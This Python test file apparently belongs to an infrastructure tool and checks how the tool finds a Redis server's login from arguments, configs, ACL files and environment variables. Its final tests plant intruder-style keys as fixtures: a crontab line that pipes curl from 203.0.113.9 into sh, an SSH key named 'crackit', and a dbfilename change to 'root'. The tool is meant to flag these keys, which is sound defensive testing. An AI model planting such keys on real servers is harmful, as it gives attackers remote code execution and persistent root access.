"""How a real server is reached, and which login of its own container it takes."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from pyinfra_runbooks.packs.redis.login import Login
from pyinfra_runbooks.packs.redis.server import Server
from pyinfra_runbooks.settings import EnvironmentVariable, InContainer, Redis, RedisUser
from tests.redis.reached import (
    HERE,
    KIND,
    NUMBER,
    PASSWORD,
    PORT,
    Container,
    assert_judged,
    running,
)

pytestmark = pytest.mark.usefixtures("kind")


def seen(place: Path, options: list[str], redis: Redis | None = None, **environment: str) -> Server:
    """A server with these options, on a port, as a look sees it; its container has them too."""
    with running(place, "--port", NUMBER, *options, ask=HERE):
        container = Container(place, ["redis-server", "--port", NUMBER, *options])
        container.environment = environment
        return container.looked_at(redis or Redis())


# Arguments


def test_no_login_is_needed(tmp_path: Path) -> None:
    server = seen(tmp_path, [])
    assert_judged(server)
    assert server.open
    assert server.login == Login()
    assert server.reach == HERE


def test_a_literal(tmp_path: Path) -> None:
    server = seen(tmp_path, ["--requirepass", PASSWORD])
    assert_judged(server)
    assert not server.open
    assert server.login == Login("default", "--requirepass")


SHELL = {
    "a variable": ('--requirepass "$PW"', "$PW"),
    "a variable in braces": ("--requirepass ${PW}", "$PW"),
    "one with a default": ('--requirepass "${PW:-other}"', "$PW"),
    "a default": ("--requirepass ${NONE:-secret7}", "--requirepass"),
    "a default in quotes": ("--requirepass ${NONE:-'secret7'}", "--requirepass"),
    "a file": ('--requirepass "$(cat "$PW_FILE")"', "$PW_FILE"),
    "a file in backquotes": ("--requirepass `cat $PW_FILE`", "$PW_FILE"),
    "a file by its path": ("--requirepass $(cat {}/pw)", "{}/pw"),
}


@pytest.mark.parametrize(("words", "by"), SHELL.values(), ids=SHELL)
def test_a_line_of_shell(tmp_path: Path, words: str, by: str) -> None:
    (tmp_path / "pw").write_text("secret7\n\n", encoding="utf-8")
    words, by = (text.replace("{}", str(tmp_path)) for text in (words, by))
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        line = f"umask 077; exec redis-server --port {PORT} {words} --appendonly no"
        container = Container(tmp_path, ["sh", "-c", line])
        container.environment = {"PW": "secret7", "PW_FILE": f"{tmp_path}/pw"}
        server = container.looked_at(Redis())
    assert_judged(server)
    assert server.login == Login("default", by)


@pytest.mark.parametrize(
    "assigned", ["PW=$(cat {}/pw); ", "export PW=`cat {}/pw` && ", 'PW="$(cat {}/pw)" ']
)
def test_a_variable_that_the_line_itself_sets(tmp_path: Path, assigned: str) -> None:
    (tmp_path / "pw").write_text(PASSWORD, encoding="utf-8")
    line = f'{assigned.replace("{}", str(tmp_path))}redis-server --requirepass "$PW"'
    with running(tmp_path, "--port", NUMBER, "--requirepass", PASSWORD, ask=HERE):
        server = Container(tmp_path, ["sh", "-c", f"{line} --port {PORT}"]).looked_at(Redis())
    assert server.login == Login("default", "$PW")


def test_what_another_command_prints_is_not_known(tmp_path: Path) -> None:
    with running(tmp_path, "--port", NUMBER, "--requirepass", "x", ask=HERE):
        line = f"redis-server --port {PORT} --requirepass $(touch {tmp_path}/canary; echo x)"
        server = Container(tmp_path, ["sh", "-c", line]).looked_at(Redis())
    assert not server.authenticated
    assert server.login == Login(unseen=("--requirepass",))
    assert not (tmp_path / "canary").exists()


# Configuration and ACL


CONFIGURED = {
    "plain": ("requirepass secret7", "secret7"),
    "in capitals": ("  RequirePass\tsecret7  ", "secret7"),
    "in quotes": (r'requirepass "p \"w\" \\ \x41"', 'p "w" \\ A'),
    "in single quotes": ("requirepass 'p \"w'", 'p "w'),
    "the last one": ("requirepass other\nrequirepass secret7", "secret7"),
    "of windows": ("requirepass secret7\r", "secret7"),
}


@pytest.mark.parametrize(("text", "password"), CONFIGURED.values(), ids=CONFIGURED)
def test_a_configuration(tmp_path: Path, text: str, password: str) -> None:
    file = tmp_path / "redis.conf"
    file.write_text(f"# requirepass no\nport {PORT}\n{text}\nhunter2\n", encoding="utf-8")
    with running(tmp_path, "--port", NUMBER, "--requirepass", password, ask=HERE):
        container = Container(tmp_path, ["redis-server", str(file)])
        server = container.looked_at(Redis())
        assert "hunter2" not in "\n".join(container.said(Redis()))
    assert_judged(server)
    assert server.login == Login("default", str(file))
    assert server.reach == HERE


def test_what_a_configuration_includes_and_an_option_that_overrules_it(tmp_path: Path) -> None:
    (tmp_path / "conf.d").mkdir()
    (tmp_path / "conf.d" / "a.conf").write_text("requirepass secret7\nport 1\n", encoding="utf-8")
    file = tmp_path / "redis.conf"
    file.write_text(f'include "{tmp_path}/conf.d/*.conf"\n', encoding="utf-8")
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        container = Container(tmp_path, ["redis-server", str(file), "--port", NUMBER])
        server = container.looked_at(Redis())
    assert server.login == Login("default", f"{tmp_path}/conf.d/a.conf")
    assert server.reach == HERE


@pytest.mark.parametrize("inside", [True, False], ids=["a configuration", "an ACL file"])
def test_a_clear_password_of_a_user(tmp_path: Path, inside: bool) -> None:
    users = (
        "user default off\nuser less on >other ~* +get\nuser ops on >p%s$\x27x ~* &* +@all\n"
        f"user hashed on #{'0' * 64} +@all\nuser off off >x +@all\n"
    )
    if inside:
        users = users.replace("\x27", "")
    acl, file = tmp_path / "users.acl", tmp_path / "redis.conf"
    (file if inside else acl).write_text(users, encoding="utf-8")
    words = [str(file)] if inside else ["--aclfile", str(acl)]
    with running(tmp_path, *words, "--port", NUMBER, ask=HERE):
        container = Container(tmp_path, ["redis-server", *words, "--port", NUMBER])
        server = container.looked_at(Redis())
    assert_judged(server)
    assert server.login == Login("ops", str(file if inside else acl))


# Environment and secrets


@pytest.mark.parametrize("name", ["REDIS_PASSWORD", "VALKEY_PASSWORD", "REDIS_HOST_PASSWORD"])
def test_a_variable_of_its_environment(tmp_path: Path, name: str) -> None:
    with running(tmp_path, "--port", NUMBER, "--requirepass", PASSWORD, ask=HERE):
        container = Container(tmp_path, ["--port", NUMBER])
        container.environment = {"OTHER_PASSWORD": "no", name: PASSWORD, "REDISCLI_AUTH": "no"}
        server = container.looked_at(Redis())
    assert_judged(server)
    assert server.login.by == f"${name}"


def test_a_file_that_its_environment_names(tmp_path: Path) -> None:
    (tmp_path / "pw").write_text(f"{PASSWORD}\n", encoding="utf-8")
    with running(tmp_path, "--port", NUMBER, "--requirepass", PASSWORD, ask=HERE):
        container = Container(tmp_path, ["redis-server", "--port", NUMBER])
        container.environment = {"REDIS_PASSWORD_FILE": f"{tmp_path}/pw"}
        server = container.looked_at(Redis())
    assert server.login == Login("default", "REDIS_PASSWORD_FILE")


def test_what_the_inventory_names_overrules_the_rest(tmp_path: Path) -> None:
    (tmp_path / "pw").write_text("secret7", encoding="utf-8")
    environment = {"MINE": "secret7", "REDIS_PASSWORD": "wrong"}
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        words = ["redis-server", "--port", NUMBER, "--requirepass", "wrong"]
        container = Container(tmp_path, words, environment=environment)
        by_variable = container.looked_at(Redis(password=InContainer(variable="MINE")))
        by_file = container.looked_at(Redis(password=InContainer(file=f"{tmp_path}/pw")))
        by_none = container.looked_at(Redis(password=InContainer(variable="NONE")))
        by_itself = container.looked_at(Redis())
    assert by_variable.login == Login("default", "$MINE")
    assert by_file.login == Login("default", f"{tmp_path}/pw")
    assert by_none.login == Login(unseen=("$NONE",))
    assert by_itself.login == Login(refused=("--requirepass",))


def test_what_is_no_small_file_is_not_read(tmp_path: Path) -> None:
    """A pipe without a writer, a device, a directory, a large file."""
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "large").write_text("x" * 5000, encoding="utf-8")
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        for path in (tmp_path / "pipe", Path("/dev/zero"), tmp_path, tmp_path / "large"):
            line = f"redis-server {path} --port {PORT} --requirepass $(cat {path})"
            server = Container(tmp_path, ["sh", "-c", line]).looked_at(Redis())
            assert not server.authenticated
            assert server.login == Login(unseen=(str(path),))


def test_no_password_is_shown(tmp_path: Path) -> None:
    with running(tmp_path, "--port", NUMBER, "--requirepass", "secret7", ask=HERE):
        for given in ("secret7", "wrong77"):
            container = Container(tmp_path, ["--port", NUMBER, "--requirepass", given])
            said = "\n".join(container.said(Redis()))
            assert given not in said
            assert "".join(f"\\x{ord(c):02x}" for c in given) not in said


# Rights


@pytest.mark.parametrize("command", ["CONFIG", "INFO", "ECHO", "ACL", "PING"])
def test_a_disabled_command(tmp_path: Path, command: str) -> None:
    server = seen(tmp_path, ["--rename-command", command, "", "--requirepass", PASSWORD])
    assert server.authenticated
    assert (server.info == {}) is (command == "INFO")
    assert (server.config is None) is (command == "CONFIG")
    assert (server.users == frozenset()) is (command == "ACL")
    assert server.refused == {
        "CONFIG": ("CONFIG GET",),
        "INFO": ("INFO",),
        "ACL": ("ACL USERS", "ACL GETUSER"),
    }.get(command, ())


def test_a_user_that_may_do_little(tmp_path: Path) -> None:
    acl = tmp_path / "users.acl"
    acl.write_text("user default off\nuser app on >secret7 ~* +get +info\n", encoding="utf-8")
    server = seen(tmp_path, ["--aclfile", str(acl)])
    assert server.authenticated
    assert server.login == Login("app", str(acl))
    assert server.info["redis_mode"] == "standalone"
    assert server.config is None
    assert server.refused


def test_a_declared_user_who_may_do_everything_is_asked_for_traces(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """And one who may not is not: what it is refused would stay in the server's log."""
    monkeypatch.setenv("PW", "secret7")
    rules = ("~*", "&*", "+@all")
    options = ["--port", NUMBER, "--requirepass", "x", "--user", "ops", "on", ">secret7", *rules]
    for given, planted in ((rules, {"backup1": "a crontab line"}), (("~*", "+@read"), {})):
        user = RedisUser("ops", rules=" ".join(given), password=EnvironmentVariable("PW"))
        with running(tmp_path, *options, ask=HERE):
            ask = [KIND.cli, *HERE, "-a", "x", "--no-auth-warning"]
            said = r'SET backup1 "\n\n*/2 * * * * root curl -s http://203.0.113.9/x | sh\n\n"'
            subprocess.run(ask, input=said.encode(), check=True, capture_output=True)
            container = Container(tmp_path, ["redis-server", *options])
            assert container.looked_at(Redis(users=(user,))).planted == planted


def test_an_intruders_key_is_named_and_not_shown(tmp_path: Path) -> None:
    """Whatever it holds stays here; no other key is read."""
    cron = "\n\n*/2 * * * * root curl -s http://203.0.113.9/hunter2 | sh\n\n"
    options = ["--port", NUMBER, "--enable-protected-configs", "yes"]
    with running(tmp_path, *options, ask=("-p", NUMBER)):
        ask = [KIND.cli, "-p", NUMBER]
        for words in (
            ("SET", "backup1", cron),
            ("SET", "crackit", "\nssh-rsa AAAAB3Nza x@y\n"),
            ("SET", "backup2", "hunter2"),
            ("RPUSH", "backup3", "hunter2"),
            ("CONFIG", "SET", "dbfilename", "root"),
        ):
            subprocess.run([*ask, *words], check=True, capture_output=True)
        container = Container(tmp_path, ["redis-server", *options])
        server = container.looked_at(Redis())
        said = container.said(Redis())
    assert server.planted == {"backup1": "a crontab line", "crackit": "an SSH key"}
    assert server.config is not None
    assert server.config["dbfilename"] == "root"
    assert server.number_of("config|set") == 1
    assert all(not module.path for module in server.modules)  # its own, if any
    assert "hunter2" not in "\n".join(said)
